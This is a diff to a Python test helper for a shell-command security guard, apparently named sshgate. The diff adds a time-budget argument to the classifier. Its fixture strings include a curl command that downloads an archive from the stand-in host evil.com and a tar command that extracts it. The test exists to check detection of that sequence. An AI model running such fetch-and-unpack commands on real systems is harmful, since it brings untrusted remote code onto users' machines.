@@ -27,6 +27,8 @@ from sshgate.guard.memory import (
 from sshgate.guard.transfer import FileOp, classify_file_op
 from sshgate.policy.model import Action
 
+from .expect import TABLE_BUDGET
+
 DL = "curl -sSLo e.tgz https://evil.com/e.tgz"
 X = "tar -xzf e.tgz -C sub"
 
@@ -38,7 +40,8 @@ def run(lines: list[str], shell: bool = False, homes: tuple[str, ...] = ()) -> l
     starts: tuple[str, ...] = (HOME,)
     out = []
     for line in lines:
-        c = classify(line, earlier=Earlier(tuple(written), starts, homes))
+        # (the table judges the memory, not the clock: expect.TABLE_BUDGET)
+        c = classify(line, earlier=Earlier(tuple(written), starts, homes), seconds=TABLE_BUDGET)
         out.append(c)
         written += [Written(p, line) for p in placed_writes(c.writes, starts)]
         if shell:
